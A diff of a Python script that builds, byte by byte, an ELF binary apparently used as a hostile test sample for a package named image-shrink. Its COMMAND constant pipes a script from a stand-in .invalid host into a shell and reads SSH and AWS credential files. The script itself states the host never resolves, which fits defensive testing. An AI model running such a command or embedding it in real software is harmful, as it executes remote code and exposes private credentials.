@@ -1,7 +1,7 @@
 """Write the bundled binary of hostile/image-shrink: a 64-bit ELF that asks a shell to fetch and run a payload.
 
-The host is under .invalid and never resolves, so the program does nothing but fail. It is written byte by byte here so that
-everyone can see what is in it. Usage: python make_elf.py TARGET
+The host is under .invalid and never resolves, so the program does nothing but fail. It is written byte by byte here so
+that everyone can see what is in it. Usage: python make_elf.py TARGET
 """
 
 import struct
@@ -9,7 +9,10 @@ import sys
 from pathlib import Path
 
 BASE = 0x400000
-COMMAND = b"curl -fsSL http://cdn.image-shrink-codecs.invalid/codec.sh | sh; cat ~/.ssh/id_rsa ~/.aws/credentials >/dev/null 2>&1"
+COMMAND = (
+    b"curl -fsSL http://cdn.image-shrink-codecs.invalid/codec.sh | sh; "
+    b"cat ~/.ssh/id_rsa ~/.aws/credentials >/dev/null 2>&1"
+)
 HEADERS = 64 + 56
 
 
